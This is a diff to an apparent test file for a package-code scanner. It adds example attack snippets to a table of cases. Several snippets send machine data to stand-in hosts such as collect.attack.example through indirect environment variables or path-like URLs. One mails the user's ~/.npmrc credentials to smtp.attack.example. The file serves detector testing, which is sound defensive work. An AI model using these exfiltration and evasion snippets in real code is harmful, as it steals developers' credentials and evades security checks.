@@ -18,6 +18,18 @@ const ATTACKS: Readonly<Record<string, readonly [code: string, manifest?: object
   'a host in a variable that the code sets': [
     `${MACHINE} process.env.METRICS = '${HOST}'; fetch(process.env.METRICS, { method: 'POST', body: machine });`,
   ],
+  'a host name in a variable that the code sets by another name of the environment': [
+    `${MACHINE} const env = process.env; env.METRICS = 'collect.attack.example'; require('https').request({ hostname: env.METRICS, method: 'POST' }).end(machine);`,
+  ],
+  'a host in a variable that the code sets with others': [
+    `${MACHINE} Object.assign(process.env, { METRICS: '${HOST}' }); fetch(process.env.METRICS, { method: 'POST', body: machine });`,
+  ],
+  'a host that looks like a path': [
+    `${MACHINE} fetch(new URL('/\\\\collect.attack.example/x', 'http://localhost'), { method: 'POST', body: machine });`,
+  ],
+  'a file of credentials as an attachment': [
+    `const os = require('os'); require('nodemailer').createTransport({ host: 'smtp.attack.example' }).sendMail({ to: 'a@b.example', attachments: [{ path: os.homedir() + '/.npmrc' }] });`,
+  ],
   'a host in a variable that npm makes of the manifest': [
     `${MACHINE} fetch(process.env.npm_package_config_host, { method: 'POST', body: machine });`,
     { config: { host: HOST } },
